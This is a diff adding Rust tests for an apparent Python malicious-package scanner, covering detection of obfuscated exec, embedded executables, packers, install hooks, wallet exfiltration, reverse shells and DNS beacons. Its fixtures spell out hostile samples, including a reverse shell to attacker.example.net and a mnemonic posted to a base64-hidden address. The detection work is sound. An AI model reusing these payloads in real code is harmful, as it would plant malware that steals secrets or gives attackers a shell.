@@ -394,3 +394,185 @@ fn a_one_line_downloader_kept_in_a_string_is_analysed_as_code() {
     let r = module("import tempfile\nCODE = b\"from urllib.request import urlopen as u;exec(u('https://cdn.example.net/x').read())\"\n");
     assert_eq!(hits(&r, "payload/download-exec", MOD), [(2, Critical)]);
 }
+
+// ---------------------------------------------------------------- source spelled in character codes
+
+#[test]
+fn exec_of_source_joined_from_character_codes_is_exec_decoded() {
+    let r = setup_py("exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41,10])))\n");
+    assert_eq!(hits(&r, "payload/exec-decoded", SETUP), [(1, Critical)]);
+    // Character codes behind a computation that does not fold count as well.
+    let r = setup_py("exec(''.join(map(chr, [int(str(105)), int(str(109)), 112, 111, 114, 116, 32, 111, 115])))\n");
+    assert_eq!(hits(&r, "payload/exec-decoded", SETUP), [(1, Critical)]);
+}
+
+#[test]
+fn character_codes_that_are_not_run_are_no_payload() {
+    let r = module("LETTERS = ''.join(map(chr, range(65, 91)))\nTABLE = bytes([1, 2, 3, 4])\ndef run(expr):\n    return eval(expr)\n");
+    none(&r, "payload/exec-decoded");
+    assert_eq!(hits(&r, "payload/exec-dynamic", MOD), [(4, Low)]);
+}
+
+#[test]
+fn eval_named_through_a_base64_decoder_found_by_getattr_is_a_hidden_alias() {
+    // The decoder's module and name, and the encoded name, spelled as byte codes.
+    let r = module("_a = eval(getattr(__import__(bytes([98,97,115,101,54,52]).decode()), bytes([98,54,52,100,101,99,111,100,101]).decode())(bytes([90,88,90,104,98,65,61,61])).decode())\n_a(payload)\n");
+    assert_eq!(hits(&r, "payload/exec-hidden", MOD), [(2, Critical)]);
+}
+
+// ---------------------------------------------------------------- helpers defined after their use
+
+#[test]
+fn exec_of_what_a_decoding_method_returns_is_exec_decoded_even_when_defined_below() {
+    let r = module(
+        r#"import base64
+class Proxy:
+    def __getattr__(self, name):
+        exec(self.unpack(self.blob))
+    def unpack(self, data):
+        return base64.b64decode(data).decode()
+"#,
+    );
+    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(4, Critical)]);
+    let plain = module(
+        "class Shell:\n    def run(self, line):\n        exec(self.compile_line(line))\n    def compile_line(self, line):\n        return line.strip()\n",
+    );
+    none(&plain, "payload/exec-decoded");
+}
+
+// ---------------------------------------------------------------- hiding/executable-blob
+
+#[test]
+fn a_windows_executable_in_base64_started_by_the_same_file_is_critical() {
+    let r = module(
+        "import base64, subprocess, tempfile\nEXE = 'TVqQAAMAAAAEAAAA//8AAAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0uLzAxMjM0NTY3ODk6Ozw9Pj9AQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVpbXF1eX2BhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ent8fX5/gIGCg4SFhoeIiYqLjI2Oj5CRkpOUlZaXmJmam5ydnp+goaKjpKWmp6ipqqusra6vsLGys7S1tre4ubq7vL2+v8DBwsPExcbHyMnKy8zNzs/Q0dLT1NXW19jZ2tvc3d7f4OHi4+Tl5ufo6err7O3u7/Dx8vP09fb3+Pn6+/z9/v8AAQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYnKCkqKywtLi8wMTIzNDU2Nzg5Ojs8PT4/QEFCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFlaW1xdXl9gYWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXp7fH1+f4CBgoOEhYaHiImKi4yNjo+QkZKTlJWWl5iZmpucnZ6foKGio6SlpqeoqaqrrK2ur7CxsrO0tba3uLm6u7y9vr/AwcLDxMXGx8jJysvMzc7P0NHS09TV1tfY2drb3N3e3+Dh4uPk5ebn6Onq6+zt7u/w8fLz9PX29/j5+vv8/f7/AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4vMDEyMzQ1Njc4OTo7PD0+P0BBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWltcXV5fYGFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6e3x9fn+AgYKDhIWGh4iJiouMjY6PkJGSk5SVlpeYmZqbnJ2en6ChoqOkpaanqKmqq6ytrq+wsbKztLW2t7i5uru8vb6/wMHCw8TFxsfIycrLzM3Oz9DR0tPU1dbX2Nna29zd3t/g4eLj5OXm5+jp6uvs7e7v8PHy8/T19vf4+fr7/P3+/wABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0uLzAxMjM0NTY3ODk6Ozw9Pj9AQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVpbXF1eX2BhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ent8fX5/gIGCg4SFhoeIiYqLjI2Oj5CRkpOUlZaXmJmam5ydnp+goaKjpKWmp6ipqqusra6vsLGys7S1tre4ubq7vL2+v8DBwsPExcbHyMnKy8zNzs/Q0dLT1NXW19jZ2tvc3d7f4OHi4+Tl5ufo6err7O3u7/Dx8vP09fb3+Pn6+/z9/v8='\nwith tempfile.NamedTemporaryFile(suffix='.bin', delete=False) as f:\n    f.write(base64.b64decode(EXE))\n    path = f.name\nsubprocess.call(path)\n",
+    );
+    assert_eq!(hits(&r, "hiding/executable-blob", MOD), [(2, Critical)]);
+    let kept = module("STUB = 'TVqQAAMAAAAEAAAA//8AAAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0uLzAxMjM0NTY3ODk6Ozw9Pj9AQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVpbXF1eX2BhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ent8fX5/gIGCg4SFhoeIiYqLjI2Oj5CRkpOUlZaXmJmam5ydnp+goaKjpKWmp6ipqqusra6vsLGys7S1tre4ubq7vL2+v8DBwsPExcbHyMnKy8zNzs/Q0dLT1NXW19jZ2tvc3d7f4OHi4+Tl5ufo6err7O3u7/Dx8vP09fb3+Pn6+/z9/v8AAQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYnKCkqKywtLi8wMTIzNDU2Nzg5Ojs8PT4/QEFCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFlaW1xdXl9gYWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXp7fH1+f4CBgoOEhYaHiImKi4yNjo+QkZKTlJWWl5iZmpucnZ6foKGio6SlpqeoqaqrrK2ur7CxsrO0tba3uLm6u7y9vr/AwcLDxMXGx8jJysvMzc7P0NHS09TV1tfY2drb3N3e3+Dh4uPk5ebn6Onq6+zt7u/w8fLz9PX29/j5+vv8/f7/AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4vMDEyMzQ1Njc4OTo7PD0+P0BBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWltcXV5fYGFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6e3x9fn+AgYKDhIWGh4iJiouMjY6PkJGSk5SVlpeYmZqbnJ2en6ChoqOkpaanqKmqq6ytrq+wsbKztLW2t7i5uru8vb6/wMHCw8TFxsfIycrLzM3Oz9DR0tPU1dbX2Nna29zd3t/g4eLj5OXm5+jp6uvs7e7v8PHy8/T19vf4+fr7/P3+/wABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4fICEiIyQlJicoKSorLC0uLzAxMjM0NTY3ODk6Ozw9Pj9AQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVpbXF1eX2BhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ent8fX5/gIGCg4SFhoeIiYqLjI2Oj5CRkpOUlZaXmJmam5ydnp+goaKjpKWmp6ipqqusra6vsLGys7S1tre4ubq7vL2+v8DBwsPExcbHyMnKy8zNzs/Q0dLT1NXW19jZ2tvc3d7f4OHi4+Tl5ufo6err7O3u7/Dx8vP09fb3+Pn6+/z9/v8='\n");
+    assert_eq!(hits(&kept, "hiding/executable-blob", MOD), [(1, Medium)]);
+}
+
+#[test]
+fn an_image_in_base64_is_no_executable_blob() {
+    let r = module("import subprocess\nICON = 'iVBORw0KGgoAAQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYnKCkqKywtLi8wMTIzNDU2Nzg5Ojs8PT4/QEFCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFlaW1xdXl9gYWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXp7fH1+f4CBgoOEhYaHiImKi4yNjo+QkZKTlJWWl5iZmpucnZ6foKGio6SlpqeoqaqrrK2ur7CxsrO0tba3uLm6u7y9vr/AwcLDxMXGx8jJysvMzc7P0NHS09TV1tfY2drb3N3e3+Dh4uPk5ebn6Onq6+zt7u/w8fLz9PX29/j5+vv8/f7/AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4vMDEyMzQ1Njc4OTo7PD0+P0BBQkNERUZHSElKS0xNTk9QUVJTVFVWV1hZWltcXV5fYGFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6e3x9fn+AgYKDhIWGh4iJiouMjY6PkJGSk5SVlpeYmZqbnJ2en6ChoqOkpaanqKmqq6ytrq+wsbKztLW2t7i5uru8vb6/wMHCw8TFxsfIycrLzM3Oz9DR0tPU1dbX2Nna29zd3t/g4eLj5OXm5+jp6uvs7e7v8PHy8/T19vf4+fr7/P3+/w=='\nsubprocess.call(['xdg-open', 'x'])\n");
+    none(&r, "hiding/executable-blob");
+}
+
+// ---------------------------------------------------------------- hiding/packer: pyobfuscate
+
+#[test]
+fn the_pyobfuscate_loader_is_a_packer_and_its_name_alone_is_not() {
+    let r = module("pyobfuscate=(lambda g:[setattr(__builtins__,k,v) for k,v in g.items()])\npyobfuscate({'https://pyobfuscate.com':'x','pyc':'~~~'})\n");
+    assert_eq!(hits(&r, "hiding/packer", MOD), [(2, High)]);
+    let r = module("# packed with https://pyobfuscate.com\nSEE = 'https://pyobfuscate.com'\n");
+    none(&r, "hiding/packer");
+}
+
+// ---------------------------------------------------------------- python -c programs of setup.py
+
+#[test]
+fn a_package_module_that_an_install_override_runs_with_python_c_is_install_time() {
+    let r = sdist(&[
+        (
+            "setup.py",
+            r#"import subprocess, sys
+from setuptools import setup
+from setuptools.command.install import install
+class Post(install):
+    def run(self):
+        install.run(self)
+        subprocess.check_call([sys.executable, "-c", "from acme.post import start; start()"])
+setup(cmdclass={"install": Post})
+"#,
+        ),
+        ("acme/__init__.py", ""),
+        ("acme/post.py", "import subprocess\ndef start():\n    subprocess.Popen(['curl', '-s', 'https://cdn.example.net/agent'])\n"),
+    ]);
+    assert_eq!(hits(&r, "access/process-on-install", "acme-1.0/acme/post.py"), [(3, High)]);
+    let r = sdist(&[
+        (
+            "setup.py",
+            "import subprocess, sys\nfrom setuptools import setup\nsubprocess.check_call([sys.executable, '-c', 'import sys; print(sys.version)'])\nsetup()\n",
+        ),
+        ("acme/__init__.py", ""),
+        ("acme/post.py", "import subprocess\ndef start():\n    subprocess.Popen(['curl', '-s', 'https://cdn.example.net/agent'])\n"),
+    ]);
+    assert!(hits(&r, "access/process-on-install", "acme-1.0/acme/post.py").is_empty());
+}
+
+// ---------------------------------------------------------------- wallet secrets to hidden addresses
+
+#[test]
+fn a_mnemonic_posted_to_a_decoded_address_is_exfiltration() {
+    let r = module(
+        r#"import base64, requests
+_ENDPOINT = "aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2s="
+def _endpoint():
+    return base64.b64decode(_ENDPOINT).decode()
+def balance(mnemonic):
+    url = _endpoint()
+    requests.post(url, json={"mnemonic": mnemonic}, timeout=3)
+"#,
+    );
+    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(7, High)]);
+}
+
+#[test]
+fn a_password_to_a_decoded_address_or_a_mnemonic_to_a_plain_one_is_no_flow() {
+    let r = module(
+        r#"import base64, requests
+def login(password):
+    url = base64.b64decode(CONFIG["api"]).decode()
+    return requests.post(url, json={"password": password})
+def backup(mnemonic):
+    return requests.post("https://vault.acme.example.com/backup", json={"mnemonic": mnemonic})
+"#,
+    );
+    none(&r, "access/exfil-flow");
+}
+
+// ---------------------------------------------------------------- python -c programs kept in shell commands
+
+#[test]
+fn a_reverse_shell_kept_as_a_python_c_command_is_analysed_as_code() {
+    let r = module(
+        r#"import subprocess
+INIT = (
+    'python3 -c \'import socket,subprocess,os;'
+    's=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'
+    's.connect(("attacker.example.net", 4433));'
+    'os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1);'
+    'subprocess.call(["/bin/sh", "-i"]);\''
+)
+def start():
+    subprocess.run(INIT, shell=True)
+"#,
+    );
+    assert_eq!(hits(&r, "payload/reverse-shell", MOD), [(3, Critical)]);
+    let r = module("import subprocess\nCHECK = \"python3 -c 'import sys; print(sys.version_info[:2])'\"\ndef version():\n    return subprocess.check_output(CHECK, shell=True)\n");
+    none(&r, "payload/reverse-shell");
+}
+
+// ---------------------------------------------------------------- DNS beacons
+
+#[test]
+fn a_dns_lookup_at_import_whose_answer_is_dropped_is_a_beacon() {
+    let r = module(
+        r#"import socket
+def _check():
+    try:
+        socket.gethostbyname('acme.probe.example.net')
+    except socket.gaierror:
+        pass
+_check()
+"#,
+    );
+    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(4, High)]);
+}
+
+#[test]
+fn a_dns_lookup_whose_answer_is_used_or_that_runs_only_when_called_is_no_beacon() {
+    let r =
+        module("import socket\nADDRESS = socket.gethostbyname('db.internal.example.net')\ndef ping():\n    socket.gethostbyname('api.service.example.net')\n");
+    none(&r, "access/exfil-flow");
+}
